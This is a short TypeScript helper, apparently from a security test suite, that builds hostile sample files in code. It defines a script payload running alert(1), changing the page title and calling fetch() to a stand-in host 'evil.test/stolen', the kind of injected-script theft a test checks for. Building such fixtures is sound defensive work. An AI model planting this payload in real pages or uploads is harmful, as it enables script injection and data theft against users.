/** A file that somebody sends to do harm; made by code, because nobody wants it lying around. */
export type HostileFile = { what: string; name: string; type: string; make: () => Buffer | Promise<Buffer> }

/** What the scripts in these files would do; the host exists nowhere. */
export const evilHost = 'evil.test'
export const attack = `alert(1);document.title='ran';fetch('https://${evilHost}/stolen')`

export const hostile = (
  what: string,
  name: string,
  type: string,
  make: () => Buffer | string | Promise<Buffer>,
): HostileFile => ({
  what,
  name,
  type,
  make: async () => {
    const made = await make()
    return typeof made === 'string' ? Buffer.from(made) : made
  },
})
